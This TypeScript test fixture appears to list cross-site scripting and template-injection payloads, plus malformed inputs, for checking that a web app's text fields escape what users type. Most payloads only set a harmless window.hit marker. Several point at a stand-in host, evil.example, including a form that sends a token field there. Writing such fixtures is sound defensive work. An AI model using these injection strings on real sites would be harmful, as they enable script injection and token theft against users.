/** What an attacker would write into a text field; any that runs sets `window.hit`. */
export const payloads = [
  '<script>window.hit=1</script>',
  '"><img src=x onerror=window.hit=1>',
  "'><svg/onload=window.hit=1>",
  '</textarea><script>window.hit=1</script>',
  '</title><script>window.hit=1</script>',
  '</template><script>window.hit=1</script>',
  '<a href="javascript:window.hit=1">x</a>',
  '{{constructor.constructor "return process"}}',
  '{{{lookup this "__proto__"}}}',
  '`${window.hit=1}`',
  '<!--<img src="--><img src=x onerror=window.hit=1>',
  '<style>@import "//evil.example/x"</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example/"><input name=token>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
];

/** What no form of ours would send in a field. */
export const strange: readonly (string | string[])[] = [
  '\0',
  '\ud800',
  '-1',
  'x'.repeat(30_000),
  ['a', 'a'],
  `'"></textarea><script>window.hit=1</script>`,
];
